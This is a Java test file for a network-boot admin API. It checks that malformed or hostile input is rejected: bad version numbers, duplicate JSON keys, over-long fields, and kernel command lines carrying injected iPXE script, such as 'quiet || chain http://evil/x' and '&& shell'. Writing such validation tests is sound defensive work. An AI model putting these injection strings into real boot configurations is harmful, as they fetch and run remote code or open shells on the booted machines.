package nettboot.edge;

import static nettboot.core.testsupport.Futures.await;
import static org.assertj.core.api.Assertions.assertThat;

import io.vertx.core.buffer.Buffer;
import io.vertx.core.http.HttpMethod;
import io.vertx.core.json.JsonObject;
import io.vertx.ext.web.client.HttpResponse;
import java.nio.file.Path;
import nettboot.core.machine.Enrollment;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile admin API input over real mTLS: numbers that are not the integer they look like,
 * duplicate JSON keys, kernel arguments that would be iPXE script, and unbounded lists. Each is a
 * 400 naming the field, and changes nothing.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class AdminInputTest {
  static final String ID = "aaaaaaaa-bbbb-4ccc-8ddd-0000000000e1";
  EdgeFixture f;

  @BeforeAll
  void start(@TempDir Path tmp) {
    f = new EdgeFixture(tmp);
    f.profileFor("acme");
  }

  @AfterAll
  void stop() {
    f.close();
  }

  private HttpResponse<Buffer> raw(HttpMethod m, String path, String body) {
    return await(f.admin().requestAbs(m, f.adminUrl(path))
        .putHeader("content-type", "application/json").sendBuffer(Buffer.buffer(body)));
  }

  private static void refused(HttpResponse<Buffer> r, String field) {
    assertThat(r.statusCode()).as(r.bodyAsString()).isEqualTo(400);
    assertThat(r.bodyAsJsonObject().getString("field")).as(r.bodyAsString()).isEqualTo(field);
  }

  @Test
  void expectedVersionMustBeAJsonIntegerInRange() {
    f.enroll("acme", ID, null);
    String path = "/v1/admin/machines/" + ID + "/state";
    // 2^64+2 once wrapped to 2, 1.5 was read as 1.
    for (String v : new String[] {"18446744073709551618", "9223372036854775808", "1.5", "1.0", "2e0",
        "\"1\"", "-1", "true", "[1]"}) {
      refused(raw(HttpMethod.PUT, path, "{\"state\":\"Maintenance\",\"expectedVersion\":" + v + "}"),
          "expectedVersion");
    }
    HttpResponse<Buffer> badIfMatch = await(f.admin().requestAbs(HttpMethod.PUT, f.adminUrl(path))
        .putHeader("if-match", "\"-1\"").sendBuffer(Buffer.buffer("{\"state\":\"Maintenance\"}")));
    refused(badIfMatch, "If-Match");
    JsonObject m = f.adminJson(HttpMethod.GET, "/v1/admin/machines/" + ID, null).bodyAsJsonObject();
    assertThat(m.getString("state")).isEqualTo("New");
    HttpResponse<Buffer> ok = raw(HttpMethod.PUT, path,
        "{\"state\":\"Maintenance\",\"expectedVersion\":" + m.getLong("version") + "}");
    assertThat(ok.statusCode()).isEqualTo(200);
  }

  @Test
  void aKeyTwiceInOneObjectIsRefused() {
    String twice = "{\"uuid\":\"aaaaaaaa-bbbb-4ccc-8ddd-0000000000e2\",\"tenant\":\"acme\","
        + "\"tenant\":\"globex\",\"role\":\"worker\"}";
    HttpResponse<Buffer> r = raw(HttpMethod.POST, "/v1/admin/machines", twice);
    refused(r, "body");
    assertThat(r.bodyAsJsonObject().getString("error")).contains("tenant");
    assertThat(f.adminJson(HttpMethod.GET, "/v1/admin/machines/aaaaaaaa-bbbb-4ccc-8ddd-0000000000e2", null)
        .statusCode()).isEqualTo(404);
    refused(raw(HttpMethod.PUT, "/v1/admin/profiles/p-acme", "{\"tenant\":\"acme\",\"kernel\":\"vmlinuz\","
        + "\"initrd\":\"initrd.img\",\"cmdline\":\"quiet\",\"cmdline\":\"x\"}"), "body");
  }

  @Test
  void profileCommandLinesAreKernelArgumentsNeverScript() {
    for (String bad : new String[] {"console=ttyS0 && shell", "quiet || chain http://evil/x", "a;b",
        "x=${net0/mac}", "a{b}", "a\\\\b", "a\\\"b", "a'b", "a\\nshell", "a\\tb", "a  b", "a#b"}) {
      HttpResponse<Buffer> r = raw(HttpMethod.PUT, "/v1/admin/profiles/p-evil", "{\"tenant\":\"acme\","
          + "\"kernel\":\"vmlinuz\",\"initrd\":\"initrd.img\",\"cmdline\":\"" + bad + "\"}");
      refused(r, "cmdline");
    }
    assertThat(f.adminJson(HttpMethod.GET, "/v1/admin/profiles/p-evil", null).statusCode()).isEqualTo(404);
    String talos = "talos.platform=metal console=tty0 console=ttyS0,115200n8 init_on_alloc=1 slab_nomerge"
        + " pti=on ip=[fd00::2]::[fd00::1]:64::eth0:off talos.logging.kernel=tcp://[fd00::9]:5000/"
        + " sysctl.kernel.kexec_load_disabled=1 talos.experimental.wipe=system:EPHEMERAL module.sig_enforce=1"
        + " panic=-1 crashkernel=256M@16M vga=0x317 nvme_core.io_timeout=4294967295 rd.break=~ a=50%"
        + " talos.config=https://[fd00::1]:4001/cfg?x=1";
    HttpResponse<Buffer> ok = f.adminJson(HttpMethod.PUT, "/v1/admin/profiles/p-talos", new JsonObject()
        .put("tenant", "acme").put("kernel", "vmlinuz").put("initrd", "initrd.img").put("cmdline", talos));
    assertThat(ok.statusCode()).as(ok.bodyAsString()).isEqualTo(200);
    assertThat(ok.bodyAsJsonObject().getString("cmdline")).isEqualTo(talos);
  }

  @Test
  void macsPerMachineAreBounded() {
    StringBuilder macs = new StringBuilder();
    for (int i = 0; i <= Enrollment.MAX_MACS; i++) {
      macs.append(i == 0 ? "" : ",").append(String.format("\"52:54:00:00:e3:%02x\"", i));
    }
    HttpResponse<Buffer> r = raw(HttpMethod.POST, "/v1/admin/machines",
        "{\"macs\":[" + macs + "],\"tenant\":\"acme\",\"role\":\"worker\"}");
    refused(r, "macs");
    assertThat(r.bodyAsJsonObject().getString("error")).contains(String.valueOf(Enrollment.MAX_MACS));
    assertThat(f.adminJson(HttpMethod.GET, "/v1/admin/machines/52:54:00:00:e3:00", null).statusCode())
        .isEqualTo(404);
    // Exactly the bound is fine.
    String sixteen = macs.substring(0, macs.lastIndexOf(","));
    assertThat(raw(HttpMethod.POST, "/v1/admin/machines",
        "{\"macs\":[" + sixteen + "],\"tenant\":\"acme\",\"role\":\"worker\"}").statusCode()).isEqualTo(201);
  }

  @Test
  void everyStringFieldIsBounded() {
    String longName = "a".repeat(300);
    refused(raw(HttpMethod.POST, "/v1/admin/machines", "{\"uuid\":\"aaaaaaaa-bbbb-4ccc-8ddd-0000000000e4\","
        + "\"tenant\":\"" + longName + "\",\"role\":\"worker\"}"), "tenant");
    refused(raw(HttpMethod.POST, "/v1/admin/machines", "{\"uuid\":\"aaaaaaaa-bbbb-4ccc-8ddd-0000000000e4\","
        + "\"tenant\":\"acme\",\"role\":\"" + longName + "\"}"), "role");
    refused(raw(HttpMethod.POST, "/v1/admin/machines", "{\"uuid\":\"aaaaaaaa-bbbb-4ccc-8ddd-0000000000e4\","
        + "\"tenant\":\"acme\",\"role\":\"worker\",\"hostname\":\"" + "a".repeat(254) + "\"}"), "hostname");
    refused(raw(HttpMethod.POST, "/v1/admin/machines", "{\"uuid\":\"aaaaaaaa-bbbb-4ccc-8ddd-0000000000e4\","
        + "\"tenant\":\"acme\",\"role\":\"worker\",\"profile\":\"" + longName + "\"}"), "profile");
    refused(raw(HttpMethod.POST, "/v1/admin/machines", "{\"uuid\":\"" + longName + "\","
        + "\"tenant\":\"acme\",\"role\":\"worker\"}"), "uuid");
    f.enroll("acme", "aaaaaaaa-bbbb-4ccc-8ddd-0000000000e5", null);
    refused(raw(HttpMethod.PUT, "/v1/admin/machines/aaaaaaaa-bbbb-4ccc-8ddd-0000000000e5/state",
        "{\"state\":\"Maintenance\",\"reason\":\"" + "r".repeat(1025) + "\"}"), "reason");
    refused(raw(HttpMethod.PUT, "/v1/admin/profiles/p-long", "{\"tenant\":\"acme\",\"kernel\":\"vmlinuz\","
        + "\"initrd\":\"initrd.img\",\"cmdline\":\"" + "x".repeat(2049) + "\"}"), "cmdline");
    HttpResponse<Buffer> big = raw(HttpMethod.POST, "/v1/admin/machines",
        "{\"x\":\"" + "a".repeat((int) EdgeConfig.DEFAULT_MAX_ADMIN_BODY) + "\"}");
    assertThat(big.statusCode()).isEqualTo(413);
  }
}
